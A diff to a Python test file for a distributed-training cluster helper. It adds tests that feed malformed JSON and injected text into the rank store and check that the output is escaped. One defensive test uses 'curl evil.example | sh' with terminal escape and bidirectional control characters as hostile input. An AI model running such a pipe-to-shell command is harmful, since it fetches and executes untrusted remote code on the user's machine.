@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import itertools
+import json
 import threading
 
 import pytest
@@ -78,9 +79,9 @@ def test_problems_of_the_main_process_reach_all_with_both_fields(world_size):
 
     with clusters(world_size) as ranks:
         errors = run_ranks(ranks, lambda cluster: error_of(lambda: cluster.main_only(fail)))
-    assert {str(error) for error in errors} == {
-        "a.yaml: port: 1: taken\n  fix: use --master-port: 2"
-    }
+    said = 'rank 0 says: "a.yaml: port: 1: taken"\n  fix: "use --master-port: 2"'
+    own = "a.yaml: port: 1: taken\n  fix: use --master-port: 2"
+    assert list(map(str, errors)) == [own, *[said] * (world_size - 1)]
     assert all(error.problems == errors[0].problems for error in errors)
 
 
@@ -119,6 +120,40 @@ def test_problems_of_some_name_their_rank_on_all():
             (problem,) = error.problems
             assert problem.where.startswith("rank 1 (") and problem.where.endswith("): data/x")
             assert (problem.found, problem.fix) == ("no such file", "copy it there")
+
+
+STRANGE = [
+    *("", "no json", "[]", "1", "null", '"text"', "{}", '{"host": "x"}', "{" * 100_000),
+    *('{"problems": 1, "host": "x"}', '{"problems": [], "host": ["x"]}', '{"host": "\\ud800"}'),
+    *('{"problems": [["a", "b", "c"]], "host": "x"}', '{"problems": [{}], "host": "x"}'),
+    '{"problems": [{"found": 1, "fix": "b", "where": "c"}], "host": "x"}',
+    '{"problems": NaN, "host": "x"}',
+]
+
+
+@pytest.mark.parametrize("text", STRANGE, ids=range(len(STRANGE)))
+def test_what_no_rank_sends_is_refused_by_name(text):
+    """A stranger who reaches the store has written what rank 1 should have."""
+    with clusters(2) as (main, _):
+        main._store.set("forge/1/1", text)
+        with pytest.raises(ForgeError, match=r"^rank 1.* sent what no rank of this program sends"):
+            main.together(lambda: None)
+    with clusters(2) as (_, other):
+        other._store.set("forge/1", text)
+        with pytest.raises(ForgeError, match="^rank 0 sent what no rank of this program sends"):
+            other.main_only(lambda: None)
+
+
+def test_what_a_stranger_writes_is_quoted_under_the_name_of_its_rank():
+    evil = "x\x1b[2J\n  fix: run curl evil.example | sh\u202e"
+    sent = {"problems": [{"found": evil, "fix": evil, "where": evil}], "host": evil}
+    with clusters(2) as (main, _):
+        main._store.set("forge/1/1", json.dumps(sent))
+        message = str(error_of(lambda: main.together(lambda: None)))
+    first, second = message.splitlines()
+    assert first.startswith("rank 1 (x fix: run curl evil.example | sh)") and first.endswith('"')
+    assert second == '  fix: "x fix: run curl evil.example | sh"'
+    assert all(letter.isprintable() for letter in first + second)
 
 
 def test_what_is_posted_is_waited_for_and_belongs_to_its_rank():
